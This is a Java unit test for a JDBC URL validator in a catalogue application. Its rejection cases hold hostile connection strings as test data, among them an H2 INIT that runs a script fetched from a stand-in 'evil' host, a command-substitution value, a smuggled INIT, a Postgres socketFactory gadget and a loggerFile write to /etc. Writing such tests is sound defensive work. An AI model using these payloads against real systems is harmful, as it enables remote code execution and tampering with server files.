package io.fairlead.catalogue.jdbc;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class JdbcUrlTest {
    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:h2:file:data/museum",
                "jdbc:h2:file:/srv/museum;CACHE_SIZE=8192;write_delay=100",
                "jdbc:h2:mem:test",
                "jdbc:postgresql://db.example.org:5432/museum",
                "jdbc:postgresql://127.0.0.1/museum?sslmode=verify-full&currentSchema=emu"
            })
    void shouldLetPassWhatOnlyNamesADatabase(String url) {
        assertThat(JdbcUrl.problem(url)).isEmpty();
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "jdbc:h2:file:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql' | INIT",
                "jdbc:h2:file:x;init=CREATE ALIAS | INIT",
                "jdbc:h2:file:x;TRACE_LEVEL_FILE=4 | TRACE_LEVEL_FILE",
                "jdbc:h2:file:x;TRACE_LEVEL_SYSTEM_OUT=3 | TRACE_LEVEL_SYSTEM_OUT",
                "jdbc:h2:file:x;AUTO_SERVER=TRUE | AUTO_SERVER",
                "jdbc:h2:file:x;CACHE_SIZE=1\\;INIT=x | CACHE_SIZE needs a number",
                "jdbc:h2:file:x;CACHE_SIZE=$(id) | CACHE_SIZE needs a number",
                "jdbc:h2:tcp://host/x | embedded only",
                "jdbc:h2:ssl://host/x | embedded only",
                "jdbc:h2:zip:x.zip!/y | embedded only",
                "jdbc:h2:~/x | embedded only",
                "jdbc:h2:file:zip:x | colon",
                "jdbc:h2:file: | names no file",
                "jdbc:postgresql://h/d?socketFactory=org.springframework.X | socketFactory",
                "jdbc:postgresql://h/d?ssl=true&loggerFile=/etc/x | loggerFile",
                "jdbc:postgresql://h/d?password=x | settings of their own",
                "jdbc:mysql://h/d | only jdbc:h2:file:",
                "jdbc:hsqldb:file:x | only jdbc:h2:file:",
            })
    void shouldRefuseWhatDoesMore(String url, String reason) {
        assertThat(JdbcUrl.problem(url))
                .hasValueSatisfying(problem -> assertThat(problem).contains(reason));
    }

    @Test
    void shouldCountPathsFromTheInstance() {
        assertThat(JdbcUrl.resolved("jdbc:h2:file:data/x;CACHE_SIZE=1", Path.of("/srv/in")))
                .isEqualTo("jdbc:h2:file:/srv/in/data/x;CACHE_SIZE=1");
        assertThat(JdbcUrl.resolved("jdbc:h2:mem:x", Path.of("/srv"))).isEqualTo("jdbc:h2:mem:x");
    }

    @Test
    void shouldNotOverruleWhatWasGiven() {
        assertThat(JdbcUrl.tuned("jdbc:h2:mem:x;cache_size=5", 9))
                .contains(";cache_size=5")
                .doesNotContain("CACHE_SIZE=9")
                .contains("DB_CLOSE_ON_EXIT=FALSE");
    }
}
